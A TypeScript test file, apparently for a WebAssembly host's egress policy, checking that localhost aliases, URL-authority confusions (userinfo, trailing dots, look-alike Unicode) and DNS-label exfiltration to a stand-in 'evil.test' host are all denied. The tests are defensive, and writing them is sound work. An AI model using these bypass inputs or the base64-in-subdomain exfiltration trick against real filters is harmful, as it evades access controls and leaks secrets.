/**
 * Names that are taken for others, or tell more than they should:
 *
 * - trailing-dot, userinfo, idn: `localhost.`, `user@host`, punycode and Unicode dots (CVE-2023-26159, CVE-2026-48618)
 * - localhost-alias: other names of this host (CVE-2021-22884)
 * - dns-exfiltration: the labels of a lookup carry data out, so names need a rule, too (wasmCloud#5404)
 */
import { hostname } from 'node:os';
import { describe, expect, test } from 'vitest';
import { dnsServer } from '../support/dns-server.ts';
import { httpAnswer, listenOn } from '../support/listeners.ts';
import { answers, denials, goOut } from './egress.ts';

const LOCAL = '127.0.0.2';

describe('localhost-alias', () => {
  const usual = ['localhost', 'localhost.', 'sub.localhost', 'ip6-localhost', 'localhost6'];

  test('no name of this host is reached by its name alone, whoever resolves it', async () => {
    await using local = await listenOn(['127.0.0.1'], () => httpAnswer('200 OK'));
    // What the system gives for the name of this machine may be anything, a public address, too.
    const all = [...usual, hostname()];
    await using dns = await dnsServer(Object.fromEntries(all.map((name) => [name, [['127.0.0.1']]])));
    for (const resolver of [undefined, dns]) {
      const aliases = resolver === undefined ? usual : all;
      const run = await goOut({
        http: aliases.map((name) => ({
          methods: ['GET'],
          url: `http://${name.toLowerCase()}:${local.port}/**`,
        })),
        ...(resolver && { resolver }),
        tries: aliases.map((name) => `http|GET|http|${name}:${local.port}|/`),
      });
      expect(answers(run)).toHaveLength(aliases.length);
      // Where the system does not know the name there is nothing to be prohibited.
      expect(
        answers(run).filter((line) => !/error:(?:destination-IP-prohibited|DNS-error)$/.test(line)),
      ).toEqual([]);
      expect(answers(run)[0]).toBe('http=error:destination-IP-prohibited');
      expect(local.received('127.0.0.1')).toEqual([]);
    }
  });

  test('a socket does not get there either', async () => {
    await using local = await listenOn(['127.0.0.1']);
    await using dns = await dnsServer({ localhost: [['127.0.0.1', '::1']] });
    const run = await goOut({
      sockets: [{ protocol: 'tcp', connect: `localhost:${local.port}` }],
      dns: [{ names: ['localhost'] }],
      resolver: dns,
      tries: ['dns|localhost', `tcp|127.0.0.1|${local.port}|x`, `tcp|::1|${local.port}|x`],
    });
    expect(answers(run).slice(1)).toEqual(['tcp=error:access-denied', 'tcp=error:access-denied']);
    expect(denials(run)).toContain(`tcp-connect tcp 127.0.0.1:${local.port} sockets/0 address-forbidden`);
    expect(local.received('127.0.0.1')).toEqual([]);
  });
});

describe('trailing-dot, userinfo, idn', () => {
  /** An authority, and the host that it is for; undefined: it is none. */
  const AUTHORITIES: readonly (readonly [string, string | undefined])[] = [
    ['good.test.', 'good.test'],
    ['GOOD.Test', 'good.test'],
    ['good.test..', undefined],
    ['.good.test', undefined],
    ['evil.test', 'evil.test'],
    ['good.test.evil.test', 'good.test.evil.test'],
    ['evilgood.test', 'evilgood.test'],
    ['good.test@evil.test', undefined],
    ['good.test:80@evil.test', undefined],
    ['good.test:@evil.test', undefined],
    ['evil.test#good.test', undefined],
    ['evil.test/good.test', undefined],
    ['evil.test\\good.test', undefined],
    ['evil.test?good.test', undefined],
    ['evil.test good.test', undefined],
    ['evil.test~00.good.test', undefined],
    ['evil.test~09.good.test', undefined],
    ['[good.test]', undefined],
    ['good.test:80:80', undefined],
    ['', undefined],
  ];

  test.each(AUTHORITIES)('%j is for %s and nothing else', async (authority, host) => {
    await using dns = await dnsServer({ 'good.test': [[LOCAL]], 'evil.test': [['127.0.0.3']] });
    await using local = await listenOn([LOCAL, '127.0.0.3'], () => httpAnswer('200 OK', [], 'good'));
    const run = await goOut({
      http: [
        { methods: ['GET'], url: `http://good.test:${local.port}/**`, addresses: ['127.0.0.0/8'] },
        { methods: ['GET'], url: 'http://good.test/**', addresses: ['127.0.0.0/8'] },
      ],
      resolver: dns,
      tries: [`http|GET|http|${authority}:${local.port}|/`, `http|GET|http|${authority}|/`],
    });
    const [first] = answers(run);
    if (host === 'good.test') {
      expect(first).toBe('http=200 good');
      expect(local.received(LOCAL)[0]).toContain(`Host: good.test:${local.port}\r\n`);
    } else {
      expect(first).toMatch(/^http=error:(?:set-authority|HTTP-request-denied|HTTP-request-URI-invalid)$/);
      expect(local.received(LOCAL)).toEqual([]);
    }
    expect(local.received('127.0.0.3')).toEqual([]);
    expect(dns.queries.filter((query) => !query.endsWith(' good.test'))).toEqual([]);
  });

  test('Unicode is read as browsers read it, whatever the case, the script and the dots', async () => {
    await using dns = await dnsServer({ 'xn--bcher-kva.test': [[LOCAL]] });
    await using local = await listenOn([LOCAL], () => httpAnswer('200 OK', [], 'books'));
    const forms = ['bücher.test', 'BÜCHER.TEST', 'xn--bcher-kva.test', 'bu~cc~88cher.test', 'bücher。test'];
    const authorities = [...forms, 'bucher.test', 'bücher.test.evil.test', 'xn--bcher-kvb.test'];
    const run = await goOut({
      http: [{ methods: ['GET'], url: `http://bücher.test:${local.port}/**`, addresses: [`${LOCAL}/32`] }],
      resolver: dns,
      tries: authorities.map((authority) => `http|GET|http|${authority}:${local.port}|/`),
    });
    const refused = /^http=error:(?:set-authority|HTTP-request-denied)$/;
    for (const [index, answer] of answers(run).entries()) {
      if (index >= forms.length) expect(answer).toMatch(refused);
      // WIT's authority is ASCII, so that a host may refuse the others.
      else if (index !== 2) expect(answer).toMatch(/^http=(?:200 books|error:set-authority)$/);
      else expect(answer).toBe('http=200 books');
    }
    expect(dns.queries.filter((query) => !query.endsWith(' xn--bcher-kva.test'))).toEqual([]);
  });
});

describe('dns-exfiltration', () => {
  test('no label of a name without a rule leaves, by whatever way it is asked for', async () => {
    await using dns = await dnsServer({ 'api.good.test': [[LOCAL]] });
    const data = 'c2VjcmV0';
    const names = [`${data}.evil.test`, `${data}.good.test.evil.test`, `${data}.api.good.test.`, 'good.test'];
    const run = await goOut({
      http: [{ methods: ['GET'], url: 'http://api.good.test/**' }],
      sockets: [{ protocol: 'tcp', connect: 'api.good.test:80' }],
      dns: [{ id: 'names', names: ['api.good.test'] }],
      resolver: dns,
      tries: names.flatMap((name) => [`dns|${name}`, `http|GET|http|${name}|/`]),
    });
    expect(answers(run)).toEqual(
      names.flatMap(() => ['dns=error:access-denied', 'http=error:HTTP-request-denied']),
    );
    expect(dns.queries).toEqual([]);
    expect(run.of('denial')).toHaveLength(names.length * 2);
  });

  test('a rule for HTTP or sockets is none for lookups', async () => {
    await using dns = await dnsServer({ 'api.good.test': [[LOCAL]] });
    const run = await goOut({
      http: [{ methods: ['GET'], url: 'http://*.good.test/**' }],
      sockets: [{ protocol: 'tcp', connect: '*.good.test:80' }],
      resolver: dns,
      tries: ['dns|api.good.test', 'tcp|127.0.0.2|80|x', 'udp|127.0.0.2|80|x'],
    });
    expect(answers(run)).toEqual(Array.from(['dns', 'tcp', 'udp'], (way) => `${way}=error:access-denied`));
    expect(dns.queries).toEqual([]);
  });

  test('a name that a rule is for is asked for as it is, without more labels', async () => {
    await using dns = await dnsServer({ 'a.good.test': [[LOCAL]] });
    const run = await goOut({
      dns: [{ names: ['*.good.test'] }],
      resolver: dns,
      tries: ['dns|A.GOOD.test.', 'dns|a.good.test', 'dns|none.good.test', `dns|${'a'.repeat(64)}.good.test`],
    });
    expect(answers(run)).toEqual([
      `dns=${LOCAL}`,
      `dns=${LOCAL}`,
      'dns=error:name-unresolvable',
      'dns=error:invalid-argument',
    ]);
    expect(new Set(dns.queries)).toEqual(
      new Set(['A a.good.test', 'AAAA a.good.test', 'A none.good.test', 'AAAA none.good.test']),
    );
  });
});
